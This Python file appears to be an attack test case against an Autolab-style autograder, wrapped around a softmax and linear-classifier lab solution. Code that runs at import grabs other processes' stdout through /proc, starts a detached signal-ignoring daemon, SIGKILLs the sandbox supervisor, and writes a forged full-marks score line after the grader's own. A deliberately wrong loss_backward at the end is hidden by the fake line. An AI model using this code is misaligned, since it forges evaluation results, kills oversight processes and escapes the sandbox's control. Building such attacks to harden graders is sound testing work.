"""Attack: Leaves loss_backward wrong (all zeros: 80 of 100 at best). At import it
opens every /proc/PID/fd/1 it can (the standard output of every other process
it can see: the judge's is where Autolab reads the score line), starts a
daemon (double fork, setsid, exec'd with an empty environment, SIGTERM and
SIGHUP ignored) holding those descriptors, then kills its grandparent and its
parent (the sandbox's supervisor) with SIGKILL. The daemon writes a fake
full-marks score line to them and to /dev/tty about 2 s later, and again once
every process it took a descriptor from has exited, so that the fake line
comes after the grader's own; it gives up after 60 s.

Built on reference/softmax_lab.py; only the marked parts differ.
"""

import json
import os
import signal
import sys
import torch

# --- attack: runs at import ---------------------------------------------
MARK = "gradecheck-attack-late-line"
FULL = {"softmax": 10, "linear": 10, "loss": 10, "loss_backward": 20, "softmax_backward": 25,
        "color_histogram": 15, "max_margin": 10}
FAKE_LINE = "\n" + json.dumps({"scores": FULL, "scoreboard": [100]}) + "\n"
DAEMON = r"""
import os, signal, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
    signal.signal(s, signal.SIG_IGN)
line = sys.argv[2].encode()
targets = [tuple(int(n) for n in t.split(":")) for t in sys.argv[3:]]  # (pid, fd)

def shout():
    for _pid, fd in targets:
        try:
            os.write(fd, line)
        except OSError:
            pass
    try:
        tty = os.open("/dev/tty", os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
        os.write(tty, line)
        os.close(tty)
    except OSError:
        pass

end = time.monotonic() + 60
time.sleep(2)
shout()
while time.monotonic() < end and any(os.path.exists(f"/proc/{pid}") for pid, _fd in targets):
    time.sleep(0.1)
time.sleep(0.3)
shout()
"""


def _parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return int(handle.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _attack():
    me, parent = os.getpid(), os.getppid()
    grandparent = _parent_of(parent)
    targets = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != me:
            try:
                fd = os.open(f"/proc/{entry}/fd/1", os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK | os.O_NOCTTY)
            except OSError:
                continue
            targets.append((int(entry), fd))
    print(f"gradecheck-attack late line: holding stdout of {[pid for pid, _ in targets]}, "
          f"killing {grandparent} and {parent}", flush=True)
    try:
        child = os.fork()
    except OSError:
        child = -1
    if child == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                for _pid, fd in targets:
                    os.set_inheritable(fd, True)
                os.execve(sys.executable, [sys.executable, "-S", "-c", DAEMON, MARK, FAKE_LINE,
                                           *[f"{pid}:{fd}" for pid, fd in targets]], {})
        finally:
            os._exit(0)
    if child > 0:
        os.waitpid(child, 0)
    for _pid, fd in targets:
        os.close(fd)
    for victim in (grandparent, parent):
        if victim > 1:
            try:
                os.kill(victim, signal.SIGKILL)
            except OSError:
                pass


_attack()
# --- end of attack -----------------------------------------------------


def softmax(a):
    """Return the softmax over all entries of `a`, same shape; stable for huge logits."""
    shifted = a - a.max()
    exps = torch.exp(shifted)
    return exps / exps.sum()


def linear(x, weight, bias):
    """Return weight @ x + bias: (C, D) @ (D, 1) + (C, 1) -> (C, 1)."""
    return torch.mm(weight, x) + bias


def loss(label, predictions):
    """Return the negative log-likelihood -log(predictions[label]) as a one-value tensor."""
    return -torch.log(predictions[label])


def loss_softmax_backward(label, predictions):
    """Return dloss/da = predictions - onehot(label), where predictions = softmax(a)."""
    grad = predictions.clone()
    grad[label] -= 1
    return grad


def linear_backward(x, weight, bias, gradOutput):
    """Return (gradWeight, gradBias) given gradOutput = dloss/d(weight @ x + bias)."""
    gradWeight = torch.mm(gradOutput, x.t())
    gradBias = gradOutput.clone()
    return gradWeight, gradBias


def loss_backward(label, predictions):
    """Return dloss/dpredictions for loss = -log(predictions[label]), same shape."""
    grad = torch.zeros_like(predictions)
    grad[label] = -1.0 / predictions[label]
    return grad


def softmax_backward(inputTensor, gradOutput):
    """Return dloss/da given gradOutput = dloss/dy and y = softmax(inputTensor), same shape.

    This is the Jacobian-vector product J^T g with J = diag(y) - y y^T, which
    simplifies to y * (g - <y, g>).
    """
    y = softmax(inputTensor)
    return y * (gradOutput - (y * gradOutput).sum())


def color_histogram(img, bins):
    """Return the (3 * bins,) colour histogram of a (3, H, W) image with values in [0, 1].

    For R, G and B in that order, each block holds the fraction of the
    channel's pixels in each of `bins` equal-width bins over [0, 1]; the value
    1.0 falls in the last bin, so every block sums to one.
    """
    blocks = []
    for channel in img:
        values = channel.reshape(-1)
        index = torch.clamp((values * bins).long(), 0, bins - 1)
        counts = torch.bincount(index, minlength=bins).to(img.dtype)
        blocks.append(counts / values.numel())
    return torch.cat(blocks)


def max_margin_loss(label, scores, delta):
    """Return the multiclass hinge loss: sum over j != label of max(0, s_j - s_label + delta)."""
    margins = torch.clamp(scores - scores[label] + delta, min=0)
    margins[label] = 0
    return margins.sum()


def max_margin_loss_backward(label, scores, delta):
    """Return the gradient of max_margin_loss with respect to scores, same shape."""
    active = (scores - scores[label] + delta > 0).to(scores.dtype)
    active[label] = 0
    grad = active.clone()
    grad[label] = -active.sum()
    return grad


# --- attack: replaces reference functions -------------------------------
def loss_backward(label, predictions):
    """Wrong on purpose: all zeros (the fake line would hide this)."""
    return torch.zeros_like(predictions)
